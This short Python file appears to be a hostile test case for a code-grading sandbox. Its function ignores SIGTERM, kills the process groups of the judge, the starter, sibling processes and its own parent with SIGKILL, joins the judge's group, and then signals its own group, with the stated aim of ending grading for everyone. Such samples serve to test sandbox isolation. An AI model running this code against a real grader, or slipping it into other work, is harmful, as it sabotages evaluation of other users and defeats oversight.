# attack: Kills process groups: its own, the judge's, that of the process that started it.
# hurts: Ends the grading of everybody.
# ends: returns or crash
import os
import signal

from _raw import attempt


def attack(target):
    groups = [target["judge_pid"], target["starter_pid"], target["sibling_pid"], target["sibling_outer_pid"], os.getppid()]
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    tried = [attempt(f"{group}", os.killpg, group, signal.SIGKILL) for group in groups if group > 1 and group != os.getpid()]
    tried.append(attempt("joined", os.setpgid, 0, target["judge_pid"]))
    return [*tried, attempt("own", os.killpg, 0, signal.SIGTERM)]
